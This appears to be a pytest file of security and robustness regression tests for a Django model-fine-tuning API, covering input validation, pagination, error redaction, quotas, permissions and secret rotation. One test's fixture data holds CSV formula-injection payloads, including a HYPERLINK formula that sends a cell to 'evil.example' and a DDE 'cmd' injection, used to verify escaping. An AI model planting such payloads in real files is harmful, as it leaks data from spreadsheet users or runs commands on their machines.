"""What a security, fault and load probe of the running system found (issue 10), each pinned."""
from __future__ import annotations

import pytest

from tests.factories import make_ready_dataset

pytestmark = pytest.mark.django_db


def test_a_split_against_zero_is_a_400_naming_the_field(api, user, base_model):
    dataset = make_ready_dataset(user)
    r = api.post(f"/api/v1/finetune/datasets/{dataset.pk}/split", {"against": 0}, format="json")
    assert r.status_code == 400, r.content
    assert r.json()["error"]["message"].startswith("against:")


@pytest.mark.parametrize("url", ["/api/v1/finetune/datasets", "/api/v1/finetune/jobs", "/api/v1/finetune/adapters",
                                 "/api/v1/finetune/deployments"])
def test_a_nul_in_the_team_query_is_a_400_naming_it(api, url):
    r = api.get(url, {"team": "\x00"})
    assert r.status_code == 400, r.content
    assert r.json()["error"]["message"].startswith("team:")


def test_a_nul_or_a_bad_slug_in_a_body_is_a_400_naming_the_field(api, user, base_model):
    dataset = make_ready_dataset(user)
    body = {"name": "x", "base_model": base_model.name, "dataset_id": dataset.pk}
    for team in ("t\x00", "no such/slug", ["list"]):
        r = api.post("/api/v1/finetune/jobs", {**body, "team": team}, format="json")
        assert r.status_code == 400, (team, r.content)
        assert r.json()["error"]["message"].startswith("team"), r.json()
    r = api.post("/api/v1/finetune/jobs", {**body, "lora_config": {"target_modules": ["q_proj\x00"]}}, format="json")
    assert r.status_code == 400 and r.json()["error"]["message"].startswith("lora_config.target_modules[0]:")
    # a page's query string too
    from django.test import Client

    client = Client()
    client.force_login(user)
    assert client.get("/finetune/training/new/", {"dataset": "1\x00"}).status_code == 400


def _schema(api) -> dict:
    r = api.get("/api/schema/", {"format": "json"})
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.oai.openapi+json")
    return r.json()


def test_the_schema_answers_json_and_documents_each_body_that_the_api_accepts(api, user, base_model):
    """Each request body is its own component (they once all shared one called `Input`, so `POST
    datasets` was documented without `file` and `POST jobs` without `dataset_id`): every field the
    schema marks required is one the operation refuses to do without, by name."""
    from tests.factories import make_adapter, make_job

    schema = _schema(api)
    components = schema["components"]["schemas"]
    job = make_job(user, base_model)
    from datasets_app.models import DistillationItem, DistillationJob, DistillationTeacher

    distillation = DistillationJob.objects.create(team=job.team, name="d", status="completed")
    item = DistillationItem.objects.create(job=distillation, group=0, prompt="p", status="accepted",
                                           teacher=DistillationTeacher.objects.create(job=distillation, model="m"))
    from tests.factories import make_comparison_session

    session = make_comparison_session(user, base_model, n=1)
    ids = {"dataset_id": job.dataset_id, "adapter_id": make_adapter(job).pk, "job_id": job.pk,
           "distillation_id": distillation.pk, "item_id": item.pk, "session_id": session.pk}
    checked = 0
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            body = operation.get("requestBody")
            if not body:
                continue
            media, content = next(iter(body["content"].items()))
            component = components[content["schema"]["$ref"].rsplit("/", 1)[1]]
            required = component.get("required", [])
            if not required:
                continue
            url = path.format(**ids)
            fmt = "multipart" if media == "multipart/form-data" else "json"
            r = getattr(api, method)(url, {}, format=fmt)
            assert r.status_code == 400, (method, path, r.status_code, r.content[:300])
            details = r.json()["error"]["details"]
            missing = [f for f in required if f not in details]
            assert not missing, (method, path, missing, details)
            checked += 1
    assert checked >= 8
    jobs = components[schema["paths"]["/api/v1/finetune/jobs"]["post"]["requestBody"]["content"]["application/json"]
                      ["schema"]["$ref"].rsplit("/", 1)[1]]
    assert {"name", "base_model", "dataset_id"} <= set(jobs["required"])
    upload = schema["paths"]["/api/v1/finetune/datasets"]["post"]["requestBody"]["content"]["multipart/form-data"]
    assert "file" in components[upload["schema"]["$ref"].rsplit("/", 1)[1]]["properties"]


def test_the_schema_generates_without_warnings():
    from django.core.management import call_command

    call_command("spectacular", "--validate", "--fail-on-warn", "--file", "/dev/null")


def test_the_api_docs_load_from_this_server_not_a_cdn(client):
    import re

    html = client.get("/api/docs/").content.decode()
    assets = re.findall(r'(?:src|href)="([^"]+)"', html)
    assert any(a.endswith("swagger-ui-bundle.js") for a in assets), assets
    assert not [a for a in assets if a.startswith(("http:", "https:", "//"))], assets
    from django.contrib.staticfiles import finders

    for asset in assets:
        if asset.startswith("/static/"):
            assert finders.find(asset.removeprefix("/static/")), asset  # shipped by drf-spectacular-sidecar


def test_every_list_is_paged_with_count_and_next(api, user, base_model):
    from tests.factories import make_adapter, make_job, record_event

    job = make_job(user, base_model)
    for i in range(3):
        make_job(user, base_model, dataset=job.dataset, name=f"more-{i}")
    make_adapter(job)
    for url, total in (("/api/v1/finetune/jobs", 4), ("/api/v1/finetune/datasets", 1), ("/api/v1/finetune/adapters", 1),
                       ("/api/v1/finetune/models", 1), ("/api/v1/finetune/presets", 3),
                       ("/api/v1/finetune/deployments", 0)):
        body = api.get(url).json()
        assert body["count"] == total and len(body["results"]) == total and body["next"] is None, url
    first = api.get("/api/v1/finetune/jobs", {"limit": 3}).json()
    assert first["count"] == 4 and len(first["results"]) == 3 and first["previous"] is None
    assert "offset=3" in first["next"] and "limit=3" in first["next"]
    second = api.get(first["next"]).json()
    assert len(second["results"]) == 1 and second["next"] is None and second["previous"]
    assert {j["id"] for j in first["results"] + second["results"]} == {j["id"] for j in api.get(
        "/api/v1/finetune/jobs").json()["results"]}
    for bad in ({"limit": 501}, {"limit": 0}, {"offset": -1}, {"limit": "many"}):
        r = api.get("/api/v1/finetune/jobs", bad)
        assert r.status_code == 400 and r.json()["error"]["message"].startswith(next(iter(bad))), bad
    # a list item leaves out the large JSON its detail has
    item = api.get("/api/v1/finetune/datasets").json()["results"][0]
    assert "validation_errors" not in item and "statistics" not in item and item["num_usable"] == 8
    # event streams page by cursor
    for n in range(5):
        record_event(job, f"line {n}")
    page = api.get(f"/api/v1/finetune/jobs/{job.pk}/events", {"limit": 2}).json()
    assert len(page["results"]) == 2 and "after=" in page["next"]
    rest = api.get(page["next"]).json()
    assert rest["results"][0]["seq"] == page["results"][-1]["seq"] + 1


def test_a_page_of_lists_costs_a_fixed_number_of_queries(api, user, base_model, django_assert_max_num_queries):
    from tests.factories import make_adapter, make_deployment, make_job

    for i in range(12):
        job = make_job(user, base_model, name=f"job-{i}")
        make_adapter(job)
        make_deployment(user, base_model, adapter=job.adapters.first())
    for url in ("/api/v1/finetune/jobs", "/api/v1/finetune/datasets", "/api/v1/finetune/adapters",
                "/api/v1/finetune/deployments"):
        with django_assert_max_num_queries(12):
            assert len(api.get(url).json()["results"]) == 12, url


def test_csv_downloads_and_conversions_do_not_carry_spreadsheet_formulas(api, user, base_model):
    """Cells starting with = + - @ (and tab or CR) become text in a spreadsheet (OWASP: a leading
    quote); JSON, JSONL and Parquet keep them exact."""
    import csv
    import io
    import json

    from tests.factories import alpaca_upload

    hostile = [{"instruction": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "input": "", "output": "@SUM(1+1)"},
               {"instruction": "Tabbed", "input": "", "output": "-2+3"},
               {"instruction": "+cmd|' /C calc'!A0", "input": "", "output": "\tindented"},
               {"instruction": "plain", "input": "", "output": "safe text"}]
    dataset = make_ready_dataset(user, hostile)
    r = api.get(f"/api/v1/finetune/datasets/{dataset.pk}/download", {"format": "alpaca", "file_type": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode() if r.streaming else r.content.decode())))
    cells = [v for row in rows for v in row.values() if v]
    assert rows[0]["instruction"] == "'" + hostile[0]["instruction"] and rows[0]["output"] == "'@SUM(1+1)"
    assert rows[1]["output"] == "'-2+3" and rows[2]["instruction"].startswith("'+cmd")
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert rows[3]["output"] == "safe text"
    r = api.get(f"/api/v1/finetune/datasets/{dataset.pk}/download", {"format": "alpaca", "file_type": "jsonl"})
    body = b"".join(r.streaming_content) if r.streaming else r.content
    assert [json.loads(line)["instruction"] for line in body.decode().splitlines()][0] == hostile[0]["instruction"]
    converted = api.post("/api/v1/finetune/datasets/convert", {"file": alpaca_upload(hostile), "to_format": "alpaca",
                                                               "file_type": "csv"}, format="multipart")
    content = b"".join(converted.streaming_content) if converted.streaming else converted.content
    first = next(csv.DictReader(io.StringIO(content.decode())))
    assert first["instruction"].startswith("'=HYPERLINK")


def test_nul_characters_in_valid_records_are_processed(user, base_model):
    """Two identical records holding \\u0000: valid data (JSON allows it). They once ended the
    dataset in `error` with raw SQL in the message (duplicate samples go into a Postgres JSON field)."""
    records = [{"instruction": "Say a\x00b", "input": "", "output": "Arr\x00 matey"}] * 2 + \
              [{"instruction": "Another", "input": "", "output": "Fine"}]
    dataset = make_ready_dataset(user, records)
    assert dataset.status == "ready", dataset.error_message
    assert dataset.num_examples == 3 and dataset.duplicates["summary"]["exact_duplicates"] == 1
    assert "\u2400" in dataset.duplicates["exact"][0]["samples"][0]  # shown as ␀ in the samples
    from datasets_app.services import dataset_load_records

    assert dataset_load_records(dataset=dataset)[0]["messages"][0]["content"] == "Say a\x00b"  # the data stays exact


def test_user_facing_errors_carry_no_server_paths_sql_or_tracebacks(api, user, base_model, tmp_path, settings):
    """A broken Parquet file's message named the server's path; a crash's message was the raw
    exception. Users see a clear sentence (with a reference to the server's log)."""
    import re

    from tests.factories import alpaca_upload

    r = api.post("/api/v1/finetune/datasets", {"file": alpaca_upload(name="broken.parquet", raw=b"PAR1 not parquet PAR1")},
                 format="multipart")
    assert r.status_code == 201
    from datasets_app.models import Dataset
    from datasets_app.services import dataset_process
    from tests.factories import claim_dataset

    claim_dataset(r.json()["id"])
    dataset = dataset_process(dataset_id=r.json()["id"])
    assert dataset.status == "error" and dataset.error_message.startswith("broken.parquet: not a readable Parquet file")
    server_paths = re.compile(r"/(work|tmp|var|root|home|usr|opt)/")
    assert not server_paths.search(dataset.error_message), dataset.error_message
    detail = api.get(f"/api/v1/finetune/datasets/{dataset.pk}").json()
    events = api.get(f"/api/v1/finetune/datasets/{dataset.pk}/events").json()["results"]
    for text in [detail["error_message"], *[e["message"] for e in events], *[p["message"] for p in detail["validation_errors"]]]:
        assert not server_paths.search(text) and "Traceback" not in text, text
    assert Dataset.objects.get(pk=dataset.pk).status == "error"


def test_an_unexpected_failure_is_a_sentence_with_a_reference(caplog):
    from nexus.redact import public_error, public_text

    try:
        open("/work/no/such/dir/file.bin")  # noqa: SIM115 - raised for its message
    except OSError as exc:
        with caplog.at_level("ERROR", logger="nexus.errors"):
            message = public_error(exc, what="Training")
    assert message.startswith("Training failed with an unexpected FileNotFoundError") and "reference" in message
    reference = message.rsplit("reference ", 1)[1].rstrip(".")
    assert "/work/" not in message and reference in caplog.text and "/work/no/such/dir" in caplog.text
    assert public_text("Saved PEFT adapter to /work/main/var/jobs/job-1/adapter after 3 steps") == \
        "Saved PEFT adapter to …/adapter after 3 steps"
    assert public_text("POST /api/v1/finetune/adapters/3/export with a\x00b") == \
        "POST /api/v1/finetune/adapters/3/export with a\u2400b"


def test_quotas_refuse_more_work_with_a_429_that_names_them(api, user, base_model, settings):
    from adapters_app.models import AdapterExport
    from deployments_app.models import Deployment
    from datasets_app.models import Dataset
    from tests.factories import alpaca_upload, make_adapter, make_job
    from training_app.models import FineTuningJob

    settings.NEXUS_QUOTA_LIVE_DEPLOYMENTS = 1
    settings.NEXUS_QUOTA_ACTIVE_TRAINING_JOBS = 1
    settings.NEXUS_QUOTA_ACTIVE_EXPORTS = 1
    settings.NEXUS_QUOTA_PROCESSING_DATASETS = 1

    def refused(r, quota):
        assert r.status_code == 429, r.content
        error = r.json()["error"]
        assert error["code"] == "quota_exceeded" and quota in error["message"] and error["details"]["limit"] == 1
        return True

    assert api.post("/api/v1/finetune/deployments", {"base_model": base_model.name}, format="json").status_code == 201
    assert refused(api.post("/api/v1/finetune/deployments", {"base_model": base_model.name}, format="json"),
                   "NEXUS_QUOTA_LIVE_DEPLOYMENTS")
    assert Deployment.objects.count() == 1

    dataset = make_ready_dataset(user)
    body = {"name": "q", "base_model": base_model.name, "dataset_id": dataset.pk}
    assert api.post("/api/v1/finetune/jobs", body, format="json").status_code == 201
    assert refused(api.post("/api/v1/finetune/jobs", body, format="json"), "NEXUS_QUOTA_ACTIVE_TRAINING_JOBS")
    assert FineTuningJob.objects.count() == 1

    assert api.post("/api/v1/finetune/datasets", {"file": alpaca_upload()}, format="multipart").status_code == 201
    assert refused(api.post("/api/v1/finetune/datasets", {"file": alpaca_upload()}, format="multipart"),
                   "NEXUS_QUOTA_PROCESSING_DATASETS")
    assert Dataset.objects.count() == 2

    from nexus.storage import storage_save_bytes

    adapter = make_adapter(make_job(user, base_model, dataset=dataset, status="completed"))
    storage_save_bytes(f"{adapter.path}/adapter_config.json", b'{"peft_type": "LORA", "r": 2, "target_modules": ["q_proj"]}')
    storage_save_bytes(f"{adapter.path}/adapter_model.safetensors", b"weights")
    export = f"/api/v1/finetune/adapters/{adapter.pk}/export"
    assert api.post(export, {"quantization": "q8_0"}, format="json").status_code == 202
    assert refused(api.post(export, {"quantization": "f16"}, format="json"), "NEXUS_QUOTA_ACTIVE_EXPORTS")
    assert AdapterExport.objects.count() == 1

    from datasets_app.models import DistillationJob

    settings.NEXUS_QUOTA_ACTIVE_DISTILLATIONS = 1
    settings.NEXUS_TEACHER_ALLOWED_HOSTS = "127.0.0.1"
    distill = {"name": "q", "teacher_config": {"model": "gpt-4o-mini", "api_key": "sk-quota-test-0000",
                                               "base_url": "http://127.0.0.1:9/v1"},
               "prompts_config": {"prompts": ["hello there"]}}
    assert api.post("/api/v1/finetune/distillation/jobs", distill, format="json").status_code == 201
    assert refused(api.post("/api/v1/finetune/distillation/jobs", distill, format="json"),
                   "NEXUS_QUOTA_ACTIVE_DISTILLATIONS")
    assert DistillationJob.objects.count() == 1


def test_viewers_may_not_spend_compute_through_a_deployment_unless_the_team_allows(user, base_model):
    from nexus.models import Membership
    from nexus.teams import team_member_add
    from tests.conftest import api_client_for
    from tests.factories import make_deployment, make_user, personal_team

    deployment = make_deployment(user, base_model)
    viewer = make_user("vince")
    team = personal_team(user)
    team_member_add(team=team, user=viewer, role=Membership.Role.VIEWER)
    client = api_client_for(viewer)
    url = f"/api/v1/finetune/deployments/{deployment.pk}/v1/chat/completions"
    body = {"messages": [{"role": "user", "content": "hi"}]}
    r = client.post(url, body, format="json")
    assert r.status_code == 403 and "Viewers may not send requests" in r.json()["error"]["message"]
    assert client.get(f"/api/v1/finetune/deployments/{deployment.pk}").status_code == 200  # reading is fine
    team.viewers_use_deployments = True
    team.save()
    assert client.post(url, body, format="json").status_code != 403  # allowed (this one has no server running)


def test_secrets_rotate_to_a_new_key_and_old_tokens_need_their_key(settings, user, base_model):
    from cryptography.fernet import Fernet
    from django.core.exceptions import ImproperlyConfigured
    from django.core.management import call_command

    from deployments_app.models import DeploymentArm
    from nexus.secrets import secret_decrypt, secret_encrypt
    from tests.factories import make_deployment

    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    settings.NEXUS_SECRET_KEYS = [old]
    arm = make_deployment(user, base_model).arms.get()
    arm.api_key_encrypted = secret_encrypt("server-key-1234")
    arm.save()
    from datasets_app.models import TeacherConnection
    from tests.factories import personal_team

    teacher = TeacherConnection.objects.create(team=personal_team(user), name="openai", model="gpt-4o-mini",
                                               api_key_encrypted=secret_encrypt("sk-teacher-5678"))
    settings.NEXUS_SECRET_KEYS = [new, old]  # rotation: the new key first, the old one still decrypts
    assert DeploymentArm.objects.get(pk=arm.pk).api_key == "server-key-1234"
    call_command("nexus_rotate_secrets")
    settings.NEXUS_SECRET_KEYS = [new]  # the old key dropped
    assert DeploymentArm.objects.get(pk=arm.pk).api_key == "server-key-1234"
    assert secret_decrypt(TeacherConnection.objects.get(pk=teacher.pk).api_key_encrypted) == "sk-teacher-5678"
    settings.NEXUS_SECRET_KEYS = [old]
    with pytest.raises(ImproperlyConfigured, match="cannot be decrypted"):
        secret_decrypt(DeploymentArm.objects.get(pk=arm.pk).api_key_encrypted)


def test_healthz_answers_without_login_and_says_what_is_down(client, settings):
    r = client.get("/healthz")
    assert r.status_code == 200 and r.json()["status"] == "ok"
    assert r.json()["database"] == "ok" and r.json()["redis"] == "ok"
    settings.NEXUS_CONTROL_REDIS_URL = "redis://127.0.0.1:1/0"  # nothing listens there
    r = client.get("/healthz")
    assert r.status_code == 503 and r.json()["redis"] == "down" and r.json()["database"] == "ok"


def test_the_fast_list_rows_equal_what_their_serializers_document(api, user, base_model):
    """The dataset and job lists read columns straight into the page; their serializers document
    the items. Both must give the same items, field for field."""
    from datasets_app.apis import DatasetListItemSerializer
    from datasets_app.selectors import dataset_list_lean
    from tests.factories import make_adapter, make_job
    from training_app.apis import JobListItemSerializer
    from training_app.selectors import training_job_list

    job = make_job(user, base_model, warnings=["a warning"], started_at="2026-01-02T03:04:05.8Z", current_loss=0.5)
    make_job(user, base_model, dataset=job.dataset, name="whole second", started_at="2026-01-02T03:04:06Z")
    make_adapter(job)
    make_job(user, base_model, dataset=job.dataset, name="second")
    listed = api.get("/api/v1/finetune/jobs").json()["results"]
    assert listed == JobListItemSerializer(training_job_list(user=user), many=True).data
    assert listed[-1]["adapter_id"] and listed[-1]["warnings"] == ["a warning"] and listed[-1]["base_model"] == base_model.name
    listed = api.get("/api/v1/finetune/datasets").json()["results"]
    assert listed == DatasetListItemSerializer(dataset_list_lean(user=user), many=True).data
    assert listed[0]["num_usable"] == 8 and listed[0]["file_path"]


def test_unicode_digits_that_int_refuses_are_ids_of_nothing(api):
    """'²'.isdigit() is true but int('²') raises: the fuzzer found a 500 there."""
    for url in ("/api/v1/finetune/distillation/templates/\u00b2", "/api/v1/finetune/eval/compare?adapter_id=\u00b2"):
        r = api.get(url)
        assert r.status_code in (400, 404), (url, r.status_code)
